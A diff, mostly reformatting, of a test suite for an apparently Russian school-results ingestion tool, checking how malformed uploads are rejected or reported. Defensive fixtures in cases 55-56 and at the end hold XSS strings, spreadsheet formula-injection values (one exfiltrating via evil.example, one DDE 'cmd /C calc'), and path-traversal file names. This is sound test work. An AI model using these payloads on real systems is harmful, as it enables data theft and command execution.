@@ -5,17 +5,21 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { plural } from '../../../domain/text.js';
 import { CollectingContext } from '../../../ingest/collect.js';
 import { FORMATS } from '../../../ingest/formats/index.js';
 import { ingestFile } from '../../../ingest/load.js';
-import { formatReport, partialMessage, type IngestReport } from '../../../ingest/report.js';
-import { plural } from '../../../domain/text.js';
+import { formatReport, type IngestReport, partialMessage } from '../../../ingest/report.js';
 import { VprScaleTable } from '../../../ingest/scales.js';
 import { closeStore, openStore, type Store } from '../../../store/db.js';
 import { BAD_DIR } from '../../fixtures/bad/make.js';
-import { checksums, ledger, one, preloadedStore, q, uploadRows, type DataTable } from './store-state.js';
+import { checksums, type DataTable, ledger, one, preloadedStore, q, uploadRows } from './store-state.js';
 
-interface RowError { row: number; column: RegExp; sheet?: string }
+interface RowError {
+  row: number;
+  column: RegExp;
+  sheet?: string;
+}
 interface Case {
   file: string;
   name?: string; // the name the client sends (path traversal)
@@ -34,12 +38,24 @@ const VPR22 = (n: string) => `Проведение работы по истор�
 const CYRILLIC = /[А-Яа-яЁё]{3}/;
 
 async function journalDecoded(store: Store, r: IngestReport, code: string): Promise<void> {
-  const rows = await q(store, 'SELECT DISTINCT school_ref, subject, pupil_key FROM journal_marks WHERE upload_id = $id', { id: r.uploadId! });
+  const rows = await q(
+    store,
+    'SELECT DISTINCT school_ref, subject, pupil_key FROM journal_marks WHERE upload_id = $id',
+    { id: r.uploadId! },
+  );
   expect(new Set(rows.map((x) => x.subject))).toEqual(new Set(['Алгебра', 'Русский язык', 'Физика']));
   expect(new Set(rows.map((x) => x.school_ref))).toEqual(new Set([code]));
   // Names decoded right ⇔ the pupil keys are those of the correctly spelled names.
-  const ctx = new CollectingContext(String(await one(store, `SELECT value FROM settings WHERE key = 'pseudonymisation_key'`)), new VprScaleTable([]));
-  const want = ['Орлова Мария Павловна', 'Зайцев Никита Романович', 'Белова Ксения Юрьевна', 'Щукин Егор Эдуардович'].map((n) => ctx.pseudonymize(n));
+  const ctx = new CollectingContext(
+    String(await one(store, `SELECT value FROM settings WHERE key = 'pseudonymisation_key'`)),
+    new VprScaleTable([]),
+  );
+  const want = [
+    'Орлова Мария Павловна',
+    'Зайцев Никита Романович',
+    'Белова Ксения Юрьевна',
+    'Щукин Егор Эдуардович',
+  ].map((n) => ctx.pseudonymize(n));
   expect(new Set(rows.map((x) => x.pupil_key))).toEqual(new Set(want));
 }
 
@@ -48,9 +64,17 @@ const CASES: Case[] = [
   { file: '01-empty.xlsx', status: 'rejected', message: /пуст \(0 байт\)/ },
   { file: '02-empty.csv', status: 'rejected', message: /пуст \(0 байт\)/ },
   { file: '03-blank-lines.csv', status: 'rejected', message: /нет данных — только пустые строки/ },
-  { file: '04-binary-junk.xlsx', status: 'rejected', message: /не является ни книгой Excel \(\.xlsx\), ни текстовым CSV/ },
+  {
+    file: '04-binary-junk.xlsx',
+    status: 'rejected',
+    message: /не является ни книгой Excel \(\.xlsx\), ни текстовым CSV/,
+  },
   { file: '05-truncated-half.xlsx', status: 'rejected', message: /повреждён: архив ZIP обрывается/ },
-  { file: '06-zip-not-a-workbook.xlsx', status: 'rejected', message: /архив ZIP с файлами внутри \(«readme\.txt», «list\.csv»\)/ },
+  {
+    file: '06-zip-not-a-workbook.xlsx',
+    status: 'rejected',
+    message: /архив ZIP с файлами внутри \(«readme\.txt», «list\.csv»\)/,
+  },
   { file: '07-word-document-renamed.xlsx', status: 'rejected', message: /документ Word \(\.docx\)/ },
   { file: '08-opendocument-renamed.xlsx', status: 'rejected', message: /таблица OpenDocument \(\.ods/ },
   { file: '09-xlsb-binary-workbook.xlsx', status: 'rejected', message: /двоичная книга Excel \(\.xlsb\)/ },
@@ -58,134 +82,498 @@ const CASES: Case[] = [
   { file: '11-password-protected.xlsx', status: 'rejected', message: /защищён паролем/ },
   { file: '12-html-table-saved-as.xls', status: 'rejected', message: /веб-страница \(HTML-таблица\)/ },
   { file: '13-spreadsheetml-2003.xls', status: 'rejected', message: /XML-таблица 2003/ },
-  { file: '14-bomb-sheet-200mb.xlsx', status: 'rejected', message: /слишком большой для загрузки: лист «Sheet» в распакованном виде больше 100 МБ/ },
-  { file: '15-bomb-shared-strings-lying-size.xlsx', status: 'rejected', message: /слишком большой для загрузки: таблица строк книги \(sharedStrings\.xml\) в распакованном виде больше 100 МБ/ },
-  { file: '16-bomb-3m-cells.xlsx', status: 'rejected', message: /слишком большой для загрузки: в книге больше 2\s000\s000 ячеек \(лист «Sheet»/ },
-  { file: '17-wide-row-1m-columns.csv', status: 'rejected', message: /Строка 3: 1\s000\s007 столбцов — больше, чем допускает Excel/ },
-  { file: '18-unbalanced-quote.csv', status: 'rejected', message: /Строка 4, столбец 4: кавычка «"» открыта, но не закрыта/ },
-  { file: '19-ведомость Юникод UTF-16.txt', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 16, check: (s, r) => journalDecoded(s, r, '9002') },
-  { file: '20-ведомость CP866.csv', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 16, check: (s, r) => journalDecoded(s, r, '9003') },
-  { file: '21-ведомость KOI8-R.csv', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 16, check: (s, r) => journalDecoded(s, r, '9004') },
-  { file: '22-ведомость CP1251 под именем xlsx.xlsx', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 16,
-    warnings: [/назван как \.xlsx, но на самом деле это текстовый файл с разделителями \(CSV\)/], check: (s, r) => journalDecoded(s, r, '9005') },
+  {
+    file: '14-bomb-sheet-200mb.xlsx',
+    status: 'rejected',
+    message: /слишком большой для загрузки: лист «Sheet» в распакованном виде больше 100 МБ/,
+  },
+  {
+    file: '15-bomb-shared-strings-lying-size.xlsx',
+    status: 'rejected',
+    message:
+      /слишком большой для загрузки: таблица строк книги \(sharedStrings\.xml\) в распакованном виде больше 100 МБ/,
+  },
+  {
+    file: '16-bomb-3m-cells.xlsx',
+    status: 'rejected',
+    message: /слишком большой для загрузки: в книге больше 2\s000\s000 ячеек \(лист «Sheet»/,
+  },
+  {
+    file: '17-wide-row-1m-columns.csv',
+    status: 'rejected',
+    message: /Строка 3: 1\s000\s007 столбцов — больше, чем допускает Excel/,
+  },
+  {
+    file: '18-unbalanced-quote.csv',
+    status: 'rejected',
+    message: /Строка 4, столбец 4: кавычка «"» открыта, но не закрыта/,
+  },
+  {
+    file: '19-ведомость Юникод UTF-16.txt',
+    status: 'loaded',
+    format: 'journal-vedomost',
+    table: 'journal_marks',
+    loaded: 16,
+    check: (s, r) => journalDecoded(s, r, '9002'),
+  },
+  {
+    file: '20-ведомость CP866.csv',
+    status: 'loaded',
+    format: 'journal-vedomost',
+    table: 'journal_marks',
+    loaded: 16,
+    check: (s, r) => journalDecoded(s, r, '9003'),
+  },
+  {
+    file: '21-ведомость KOI8-R.csv',
+    status: 'loaded',
+    format: 'journal-vedomost',
+    table: 'journal_marks',
+    loaded: 16,
+    check: (s, r) => journalDecoded(s, r, '9004'),
+  },
+  {
+    file: '22-ведомость CP1251 под именем xlsx.xlsx',
+    status: 'loaded',
+    format: 'journal-vedomost',
+    table: 'journal_marks',
+    loaded: 16,
+    warnings: [/назван как \.xlsx, но на самом деле это текстовый файл с разделителями \(CSV\)/],
+    check: (s, r) => journalDecoded(s, r, '9005'),
+  },
 
   // --- header-only files of every major format
-  { file: VPR21('23 только шапка'), status: 'rejected', format: 'fisoko-vpr-2021', message: /нет ни одной строки с результатами/ },
-  { file: VPR22('24 только шапка'), status: 'rejected', format: 'fisoko-vpr-2022', message: /нет ни одной строки с результатами/ },
-  { file: '25-header-only_vpr2020_export_math5.xlsx', status: 'rejected', format: 'fisoko-vpr-2020', message: /нет ни одной строки с результатами/ },
-  { file: 'Проведение работы по математике, 5 класс. ВПР 2021 sch229001 26 форма только шапка.xlsx', status: 'rejected', format: 'fisoko-vpr-protocol-form', message: /нет ни одной строки с результатами/ },
-  { file: '27-ОГЭ протокол только шапка.xlsx', status: 'rejected', format: 'rcoi-protocol', message: /нет ни одной строки с результатами/ },
-  { file: '02_2024.06.07 28 только шапка.csv', status: 'rejected', format: 'rcoi-gia9-csv', message: /нет ни одной строки с результатами/ },
-  { file: '29-ведомость только шапка.csv', status: 'rejected', format: 'journal-vedomost', message: /нет ни одной строки с данными/ },
-  { file: '30-реестр ОО только шапка.xlsx', status: 'rejected', format: 'school-registry', message: /нет ни одной строки с данными/ },
-  { file: '31-data-9722 только шапка.csv', status: 'rejected', format: 'moscow-ege-9722', message: /нет ни одной строки с данными/ },
-  { file: '32-статистика по отметкам только шапка.xlsx', status: 'rejected', format: 'fisoko-mark-stats', message: /нет ни одной строки с данными/ },
-  { file: '33-целевые показатели только шапка.xlsx', status: 'rejected', format: 'programme-targets', message: /нет ни одной строки с данными/ },
+  {
+    file: VPR21('23 только шапка'),
+    status: 'rejected',
+    format: 'fisoko-vpr-2021',
+    message: /нет ни одной строки с результатами/,
+  },
+  {
+    file: VPR22('24 только шапка'),
+    status: 'rejected',
+    format: 'fisoko-vpr-2022',
+    message: /нет ни одной строки с результатами/,
+  },
+  {
+    file: '25-header-only_vpr2020_export_math5.xlsx',
+    status: 'rejected',
+    format: 'fisoko-vpr-2020',
+    message: /нет ни одной строки с результатами/,
+  },
+  {
+    file: 'Проведение работы по математике, 5 класс. ВПР 2021 sch229001 26 форма только шапка.xlsx',
+    status: 'rejected',
+    format: 'fisoko-vpr-protocol-form',
+    message: /нет ни одной строки с результатами/,
+  },
+  {
+    file: '27-ОГЭ протокол только шапка.xlsx',
+    status: 'rejected',
+    format: 'rcoi-protocol',
+    message: /нет ни одной строки с результатами/,
+  },
+  {
+    file: '02_2024.06.07 28 только шапка.csv',
+    status: 'rejected',
+    format: 'rcoi-gia9-csv',
+    message: /нет ни одной строки с результатами/,
+  },
+  {
+    file: '29-ведомость только шапка.csv',
+    status: 'rejected',
+    format: 'journal-vedomost',
+    message: /нет ни одной строки с данными/,
+  },
+  {
+    file: '30-реестр ОО только шапка.xlsx',
+    status: 'rejected',
+    format: 'school-registry',
+    message: /нет ни одной строки с данными/,
+  },
+  {
+    file: '31-data-9722 только шапка.csv',
+    status: 'rejected',
+    format: 'moscow-ege-9722',
+    message: /нет ни одной строки с данными/,
+  },
+  {
+    file: '32-статистика по отметкам только шапка.xlsx',
+    status: 'rejected',
+    format: 'fisoko-mark-stats',
+    message: /нет ни одной строки с данными/,
+  },
+  {
+    file: '33-целевые показатели только шапка.xlsx',
+    status: 'rejected',
+    format: 'programme-targets',
+    message: /нет ни одной строки с данными/,
+  },
 
   // --- duplicated headers: the file is rejected, naming the sheet (none for CSV), the row and both columns
-  { file: VPR21('34 повтор столбца задания'), status: 'rejected', format: 'fisoko-vpr-2021', message: /задание «3» встречается в шапке дважды/ },
-  { file: '35-реестр ОО повтор столбца Код ОО.xlsx', status: 'rejected', format: 'school-registry',
-    message: /лист «Реестр», строка 1: столбец «Код ОО» встречается в шапке дважды — «Код ОО» \(A\) и «Код ОО» \(C\)/ },
-  { file: '36-ведомость повтор столбца Отметка.csv', status: 'rejected', format: 'journal-vedomost',
-    message: /«36-ведомость повтор столбца Отметка\.csv», строка 1: столбец «Отметка» встречается в шапке дважды — «Отметка» \(G\) и «Отметка» \(H\)/ },
+  {
+    file: VPR21('34 повтор столбца задания'),
+    status: 'rejected',
+    format: 'fisoko-vpr-2021',
+    message: /задание «3» встречается в шапке дважды/,
+  },
+  {
+    file: '35-реестр ОО повтор столбца Код ОО.xlsx',
+    status: 'rejected',
+    format: 'school-registry',
+    message: /лист «Реестр», строка 1: столбец «Код ОО» встречается в шапке дважды — «Код ОО» \(A\) и «Код ОО» \(C\)/,
+  },
+  {
+    file: '36-ведомость повтор столбца Отметка.csv',
+    status: 'rejected',
+    format: 'journal-vedomost',
+    message:
+      /«36-ведомость повтор столбца Отметка\.csv», строка 1: столбец «Отметка» встречается в шапке дважды — «Отметка» \(G\) и «Отметка» \(H\)/,
+  },
 
   // --- values out of range: the row goes, the others load
   // A journal mark 7 only keeps the pupil out of the ВПР-vs-journal comparison: the row loads, with a warning.
-  { file: VPR21('37 ошибки в строках'), status: 'loaded', format: 'fisoko-vpr-2021', table: 'pupil_results', loaded: 7, rowErrors: [
-    { sheet: 'Sheet', row: 5, column: /всего баллов/ }, { sheet: 'Sheet', row: 7, column: /балл за 1/ }, { sheet: 'Sheet', row: 9, column: /код обучающегося/ }],
-    warnings: [/^Лист «Sheet», столбец «отметка за предыдущую четверть\/триместр» \(E\): в 1 строке отметка по журналу «7» .*\(строка 3\)\.$/m] },
-  { file: VPR22('38 баллы вне диапазона'), status: 'loaded', format: 'fisoko-vpr-2022', table: 'pupil_results', loaded: 5, rowErrors: [
-    { sheet: 'Протокол', row: 2, column: /1 \(2б\)/ }, { sheet: 'Протокол', row: 4, column: /Итого баллов/ }, { sheet: 'Протокол', row: 6, column: /3 \(3б\)/ }],
-    warnings: [/^Лист «Протокол», столбец «Отметка за предыдущий триместр\/ четверть\/полугодие» \([A-Z]+\): в 1 строке отметка по журналу «7» .*\(строка 8\)\.$/m],
+  {
+    file: VPR21('37 ошибки в строках'),
+    status: 'loaded',
+    format: 'fisoko-vpr-2021',
+    table: 'pupil_results',
+    loaded: 7,
+    rowErrors: [
+      { sheet: 'Sheet', row: 5, column: /всего баллов/ },
+      { sheet: 'Sheet', row: 7, column: /балл за 1/ },
+      { sheet: 'Sheet', row: 9, column: /код обучающегося/ },
+    ],
+    warnings: [
+      /^Лист «Sheet», столбец «отметка за предыдущую четверть\/триместр» \(E\): в 1 строке отметка по журналу «7» .*\(строка 3\)\.$/m,
+    ],
+  },
+  {
+    file: VPR22('38 баллы вне диапазона'),
+    status: 'loaded',
+    format: 'fisoko-vpr-2022',
+    table: 'pupil_results',
+    loaded: 5,
+    rowErrors: [
+      { sheet: 'Протокол', row: 2, column: /1 \(2б\)/ },
+      { sheet: 'Протокол', row: 4, column: /Итого баллов/ },
+      { sheet: 'Протокол', row: 6, column: /3 \(3б\)/ },
+    ],
+    warnings: [
+      /^Лист «Протокол», столбец «Отметка за предыдущий триместр\/ четверть\/полугодие» \([A-Z]+\): в 1 строке отметка по журналу «7» .*\(строка 8\)\.$/m,
+    ],
     check: async (s, r) => {
-      const rows = await q(s, 'SELECT row_no, status, journal_mark FROM pupil_results WHERE upload_id = $id AND row_no = 8', { id: r.uploadId! });
+      const rows = await q(
+        s,
+        'SELECT row_no, status, journal_mark FROM pupil_results WHERE upload_id = $id AND row_no = 8',
+        { id: r.uploadId! },
+      );
       expect(rows).toEqual([{ row_no: 8, status: 'present', journal_mark: null }]);
-    } },
-  { file: '39-ОГЭ протокол отметки вне диапазона.xlsx', status: 'loaded', format: 'rcoi-protocol', table: 'pupil_results', loaded: 3, rowErrors: [
-    { sheet: 'Протокол', row: 5, column: /Оценка/ }, { sheet: 'Протокол', row: 6, column: /Первичный балл/ }, { sheet: 'Протокол', row: 7, column: /Первичный балл/ }] },
-  { file: '40-ведомость отметки вне диапазона.csv', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 12,
-    rowErrors: [3, 6, 9, 12].map((row) => ({ row, column: /Отметка/ })) },
-  { file: '41-статистика по отметкам отрицательные и дробные.xlsx', status: 'loaded', format: 'fisoko-mark-stats', table: 'aggregate_results', loaded: 5, rowErrors: [
-    { sheet: 'Статистика по отметкам', row: 13, column: /Кол-во участников/ }, { sheet: 'Статистика по отметкам', row: 14, column: /Кол-во участников/ },
-    { sheet: 'Статистика по отметкам', row: 15, column: /Распределение групп баллов в %: 4/ }, { sheet: 'Статистика по отметкам', row: 16, column: /Кол-во ОО/ }] },
-  { file: '42-data-9722 отрицательные и дробные.csv', status: 'loaded', format: 'moscow-ege-9722', table: 'aggregate_results', loaded: 2, rowErrors: [
-    { row: 3, column: /PASSED_NUMBER_FULL/ }, { row: 4, column: /PASSED_NUMBER_FULL/ }, { row: 5, column: /PASSES_OVER_220/ }, { row: 6, column: /PASSES_OVER_220/ }] },
-  { file: '43-сравнение отметок с журналом отрицательные и дробные.xlsx', status: 'loaded', format: 'fisoko-mark-comparison', table: 'aggregate_results', loaded: 3, rowErrors: [
-    { sheet: 'Сравнение отметок', row: 24, column: /Кол-во участников/ }, { sheet: 'Сравнение отметок', row: 29, column: /Кол-во участников/ }, { sheet: 'Сравнение отметок', row: 32, column: /Кол-во участников/ }],
-    warnings: [/строка 25, столбец «% \(C\)»: процент 112,5 вне диапазона 0–100/] },
-  { file: '44-реестр ОО смешанные разделители.csv', status: 'loaded', format: 'school-registry', table: 'schools', loaded: 2, rowErrors: [{ row: 4, column: /Численность обучающихся/ }],
+    },
+  },
+  {
+    file: '39-ОГЭ протокол отметки вне диапазона.xlsx',
+    status: 'loaded',
+    format: 'rcoi-protocol',
+    table: 'pupil_results',
+    loaded: 3,
+    rowErrors: [
+      { sheet: 'Протокол', row: 5, column: /Оценка/ },
+      { sheet: 'Протокол', row: 6, column: /Первичный балл/ },
+      { sheet: 'Протокол', row: 7, column: /Первичный балл/ },
+    ],
+  },
+  {
+    file: '40-ведомость отметки вне диапазона.csv',
+    status: 'loaded',
+    format: 'journal-vedomost',
+    table: 'journal_marks',
+    loaded: 12,
+    rowErrors: [3, 6, 9, 12].map((row) => ({ row, column: /Отметка/ })),
+  },
+  {
+    file: '41-статистика по отметкам отрицательные и дробные.xlsx',
+    status: 'loaded',
+    format: 'fisoko-mark-stats',
+    table: 'aggregate_results',
+    loaded: 5,
+    rowErrors: [
+      { sheet: 'Статистика по отметкам', row: 13, column: /Кол-во участников/ },
+      { sheet: 'Статистика по отметкам', row: 14, column: /Кол-во участников/ },
+      { sheet: 'Статистика по отметкам', row: 15, column: /Распределение групп баллов в %: 4/ },
+      { sheet: 'Статистика по отметкам', row: 16, column: /Кол-во ОО/ },
+    ],
+  },
+  {
+    file: '42-data-9722 отрицательные и дробные.csv',
+    status: 'loaded',
+    format: 'moscow-ege-9722',
+    table: 'aggregate_results',
+    loaded: 2,
+    rowErrors: [
+      { row: 3, column: /PASSED_NUMBER_FULL/ },
+      { row: 4, column: /PASSED_NUMBER_FULL/ },
+      { row: 5, column: /PASSES_OVER_220/ },
+      { row: 6, column: /PASSES_OVER_220/ },
+    ],
+  },
+  {
+    file: '43-сравнение отметок с журналом отрицательные и дробные.xlsx',
+    status: 'loaded',
+    format: 'fisoko-mark-comparison',
+    table: 'aggregate_results',
+    loaded: 3,
+    rowErrors: [
+      { sheet: 'Сравнение отметок', row: 24, column: /Кол-во участников/ },
+      { sheet: 'Сравнение отметок', row: 29, column: /Кол-во участников/ },
+      { sheet: 'Сравнение отметок', row: 32, column: /Кол-во участников/ },
+    ],
+    warnings: [/строка 25, столбец «% \(C\)»: процент 112,5 вне диапазона 0–100/],
+  },
+  {
+    file: '44-реестр ОО смешанные разделители.csv',
+    status: 'loaded',
+    format: 'school-registry',
+    table: 'schools',
+    loaded: 2,
+    rowErrors: [{ row: 4, column: /Численность обучающихся/ }],
     check: async (s) => {
-      const rows = await q(s, `SELECT school_code, enrolment, round(ovz_share, 6) AS ovz, round(nonnative_share, 6) AS nn FROM schools WHERE school_code IN ('9401', '9402', '9403') ORDER BY 1`);
-      expect(rows).toEqual([{ school_code: '9401', enrolment: 1234, ovz: 0.075, nn: 0.025 }, { school_code: '9402', enrolment: 312, ovz: 0.075, nn: 0.025 }]);
-    } },
-  { file: '45-статистика по отметкам смешанные разделители.xlsx', status: 'loaded', format: 'fisoko-mark-stats', table: 'aggregate_results', loaded: 2,
+      const rows = await q(
+        s,
+        `SELECT school_code, enrolment, round(ovz_share, 6) AS ovz, round(nonnative_share, 6) AS nn FROM schools WHERE school_code IN ('9401', '9402', '9403') ORDER BY 1`,
+      );
+      expect(rows).toEqual([
+        { school_code: '9401', enrolment: 1234, ovz: 0.075, nn: 0.025 },
+        { school_code: '9402', enrolment: 312, ovz: 0.075, nn: 0.025 },
+      ]);
+    },
+  },
+  {
+    file: '45-статистика по отметкам смешанные разделители.xlsx',
+    status: 'loaded',
+    format: 'fisoko-mark-stats',
+    table: 'aggregate_results',
+    loaded: 2,
     check: async (s, r) => {
-      const rows = await q(s, 'SELECT school_ref, participants, n2, n3, n4, n5, shares_only FROM aggregate_results WHERE upload_id = $id ORDER BY school_ref', { id: r.uploadId! });
+      const rows = await q(
+        s,
+        'SELECT school_ref, participants, n2, n3, n4, n5, shares_only FROM aggregate_results WHERE upload_id = $id ORDER BY school_ref',
+        { id: r.uploadId! },
+      );
       expect(rows).toEqual([
         { school_ref: 'sch229201', participants: 8, n2: 1, n3: 2, n4: 4, n5: 1, shares_only: false },
         { school_ref: 'sch229202', participants: 20, n2: 1, n3: 9, n4: 7, n5: 3, shares_only: false },
       ]);
-    } },
+    },
+  },
 
   // --- dates in the future
-  { file: VPR22('46 дата загрузки в будущем'), status: 'rejected', format: 'fisoko-vpr-2022', message: /2098\/99 учебный год ещё не начался/ },
-  { file: '47-ведомость будущий учебный год.csv', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 14,
-    rowErrors: [{ row: 2, column: /Учебный год/ }, { row: 7, column: /Учебный год/ }] },
-  { file: '48-статистика по отметкам дата в будущем.xlsx', status: 'rejected', format: 'fisoko-mark-stats',
-    message: /лист «Статистика по отметкам», строка 2: в заголовке отчёта ФИС ОКО дата проведения 16\.04\.2099 — она ещё не наступила/ },
+  {
+    file: VPR22('46 дата загрузки в будущем'),
+    status: 'rejected',
+    format: 'fisoko-vpr-2022',
+    message: /2098\/99 учебный год ещё не начался/,
+  },
+  {
+    file: '47-ведомость будущий учебный год.csv',
+    status: 'loaded',
+    format: 'journal-vedomost',
+    table: 'journal_marks',
+    loaded: 14,
+    rowErrors: [
+      { row: 2, column: /Учебный год/ },
+      { row: 7, column: /Учебный год/ },
+    ],
+  },
+  {
+    file: '48-статистика по отметкам дата в будущем.xlsx',
+    status: 'rejected',
+    format: 'fisoko-mark-stats',
+    message:
+      /лист «Статистика по отметкам», строка 2: в заголовке отчёта ФИС ОКО дата проведения 16\.04\.2099 — она ещё не наступила/,
+  },
 
   // --- unknown subjects, grades, schools
-  { file: 'Проведение работы по астрономии, 10 класс. ВПР 2021 49 неизвестный предмет.xlsx', status: 'rejected', format: 'fisoko-vpr-2021',
-    message: /в имени файла предмет «по астрономии» не распознан — Ориентир знает предметы «Русский язык», «Математика», .*«География»/ },
-  { file: '50-ведомость неизвестный предмет и класс.csv', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 15,
-    rowErrors: [{ row: 4, column: /Класс/ }], warnings: [/^Строка 2, поле «Предмет»: предмет «Астрология» не распознан/m] },
-  { file: VPR21('51 неизвестная ОО'), status: 'loaded', format: 'fisoko-vpr-2021', table: 'pupil_results', loaded: 5, warnings: [/^1 ОО нет в реестре: «sch229999»\. Их результаты сохранены, но не входят в показатели и списки/] },
-  { file: '52-целевые показатели неизвестный показатель и класс.xlsx', status: 'loaded', format: 'programme-targets', table: 'program_targets', loaded: 1, rowErrors: [
-    { sheet: 'Цели', row: 3, column: /Показатель/ }, { sheet: 'Цели', row: 4, column: /Класс/ }, { sheet: 'Цели', row: 5, column: /Предмет/ }] },
+  {
+    file: 'Проведение работы по астрономии, 10 класс. ВПР 2021 49 неизвестный предмет.xlsx',
+    status: 'rejected',
+    format: 'fisoko-vpr-2021',
+    message:
+      /в имени файла предмет «по астрономии» не распознан — Ориентир знает предметы «Русский язык», «Математика», .*«География»/,
+  },
+  {
+    file: '50-ведомость неизвестный предмет и класс.csv',
+    status: 'loaded',
+    format: 'journal-vedomost',
+    table: 'journal_marks',
+    loaded: 15,
+    rowErrors: [{ row: 4, column: /Класс/ }],
+    warnings: [/^Строка 2, поле «Предмет»: предмет «Астрология» не распознан/m],
+  },
+  {
+    file: VPR21('51 неизвестная ОО'),
+    status: 'loaded',
+    format: 'fisoko-vpr-2021',
+    table: 'pupil_results',
+    loaded: 5,
+    warnings: [/^1 ОО нет в реестре: «sch229999»\. Их результаты сохранены, но не входят в показатели и списки/],
+  },
+  {
+    file: '52-целевые показатели неизвестный показатель и класс.xlsx',
+    status: 'loaded',
+    format: 'programme-targets',
+    table: 'program_targets',
+    loaded: 1,
+    rowErrors: [
+      { sheet: 'Цели', row: 3, column: /Показатель/ },
+      { sheet: 'Цели', row: 4, column: /Класс/ },
+      { sheet: 'Цели', row: 5, column: /Предмет/ },
+    ],
+  },
 
   // --- formula cells without cached values
-  { file: VPR22('53 формулы без значений'), status: 'loaded', format: 'fisoko-vpr-2022', table: 'pupil_results', loaded: 4,
-    warnings: [/лист «Протокол»: 3 ячейки с формулами без вычисленного значения \(первая — V2\)/, /лист «Протокол»: 1 ячейка с ошибкой формулы \(первая — V5: #DIV\/0!\)/,
-      /строка 2, столбец «Итого баллов» \(V\): итоговый балл не указан/, /строка 5, столбец «Итого баллов» \(V\): итоговый балл не указан/] },
-  { file: '54-реестр ОО формула без значения.xlsx', status: 'loaded', format: 'school-registry', table: 'schools', loaded: 2,
-    rowErrors: [{ sheet: 'Реестр', row: 3, column: /Наименование/ }], warnings: [/лист «Реестр»: 2 ячейки с формулами без вычисленного значения \(первая — B3\)/] },
+  {
+    file: VPR22('53 формулы без значений'),
+    status: 'loaded',
+    format: 'fisoko-vpr-2022',
+    table: 'pupil_results',
+    loaded: 4,
+    warnings: [
+      /лист «Протокол»: 3 ячейки с формулами без вычисленного значения \(первая — V2\)/,
+      /лист «Протокол»: 1 ячейка с ошибкой формулы \(первая — V5: #DIV\/0!\)/,
+      /строка 2, столбец «Итого баллов» \(V\): итоговый балл не указан/,
+      /строка 5, столбец «Итого баллов» \(V\): итоговый балл не указан/,
+    ],
+  },
+  {
+    file: '54-реестр ОО формула без значения.xlsx',
+    status: 'loaded',
+    format: 'school-registry',
+    table: 'schools',
+    loaded: 2,
+    rowErrors: [{ sheet: 'Реестр', row: 3, column: /Наименование/ }],
+    warnings: [/лист «Реестр»: 2 ячейки с формулами без вычисленного значения \(первая — B3\)/],
+  },
 
   // --- markup and spreadsheet formulas in names: stored verbatim, reported
-  { file: '55-реестр ОО XSS и формулы.csv', status: 'loaded', format: 'school-registry', table: 'schools', loaded: 6,
-    warnings: [/^Строка 2, поле «Наименование»: .*HTML-разметку/m, /^Строка 3, поле «Наименование»: .*формула/m, /^Строка 4, поле «Наименование»: значение «\+1»/m,
-      /^Строка 5, поле «Наименование»: значение «@SUM/m, /^Строка 6, поле «Муниципалитет»: .*HTML-разметку/m],
+  {
+    file: '55-реестр ОО XSS и формулы.csv',
+    status: 'loaded',
+    format: 'school-registry',
+    table: 'schools',
+    loaded: 6,
+    warnings: [
+      /^Строка 2, поле «Наименование»: .*HTML-разметку/m,
+      /^Строка 3, поле «Наименование»: .*формула/m,
+      /^Строка 4, поле «Наименование»: значение «\+1»/m,
+      /^Строка 5, поле «Наименование»: значение «@SUM/m,
+      /^Строка 6, поле «Муниципалитет»: .*HTML-разметку/m,
+    ],
     check: async (s) => {
-      const rows = await q(s, `SELECT school_code, name, municipality FROM schools WHERE school_code BETWEEN '9701' AND '9706' ORDER BY 1`);
-      expect(rows.map((r) => r.name)).toEqual(['<script>alert("xss")</script>', '=HYPERLINK("http://evil.example/?d="&A1;"Школа")', '+1', "@SUM(1+1)*cmd|' /C calc'!A0", 'МБОУ «Энская СОШ № 75»', 'МБОУ «Энская СОШ № 76»']);
+      const rows = await q(
+        s,
+        `SELECT school_code, name, municipality FROM schools WHERE school_code BETWEEN '9701' AND '9706' ORDER BY 1`,
+      );
+      expect(rows.map((r) => r.name)).toEqual([
+        '<script>alert("xss")</script>',
+        '=HYPERLINK("http://evil.example/?d="&A1;"Школа")',
+        '+1',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        'МБОУ «Энская СОШ № 75»',
+        'МБОУ «Энская СОШ № 76»',
+      ]);
       expect(rows[4]!.municipality).toBe('<img src=x onerror=alert(1)>');
-    } },
-  { file: VPR22('56 разметка в названии ОО'), status: 'loaded', format: 'fisoko-vpr-2022', table: 'pupil_results', loaded: 3,
-    warnings: [/строка 2, поле «Название ОО»: значение «<script>alert\(1\)<\/script>» содержит HTML-разметку/, /строка 2, поле «Муниципалитет»: .*формула/],
+    },
+  },
+  {
+    file: VPR22('56 разметка в названии ОО'),
+    status: 'loaded',
+    format: 'fisoko-vpr-2022',
+    table: 'pupil_results',
+    loaded: 3,
+    warnings: [
+      /строка 2, поле «Название ОО»: значение «<script>alert\(1\)<\/script>» содержит HTML-разметку/,
+      /строка 2, поле «Муниципалитет»: .*формула/,
+    ],
     check: async (s, r) => {
-      const rows = await q(s, 'SELECT DISTINCT school_ref, school_name, municipality FROM pupil_results WHERE upload_id = $id', { id: r.uploadId! });
-      expect(rows).toEqual([{ school_ref: 'edu229005', school_name: '<script>alert(1)</script>', municipality: '=HYPERLINK("http://evil.example")' }]);
-    } },
+      const rows = await q(
+        s,
+        'SELECT DISTINCT school_ref, school_name, municipality FROM pupil_results WHERE upload_id = $id',
+        { id: r.uploadId! },
+      );
+      expect(rows).toEqual([
+        {
+          school_ref: 'edu229005',
+          school_name: '<script>alert(1)</script>',
+          municipality: '=HYPERLINK("http://evil.example")',
+        },
+      ]);
+    },
+  },
 
   // --- names
-  { file: '57-path-traversal.xlsx', name: '../../etc/passwd.xlsx', status: 'rejected', message: /«passwd\.xlsx» не является ни книгой Excel/ },
-  { file: '10-legacy.xls', name: '..\\..\\Windows\\System32\\config.xls', status: 'rejected', message: /«config\.xls» — книга Excel старого формата/ },
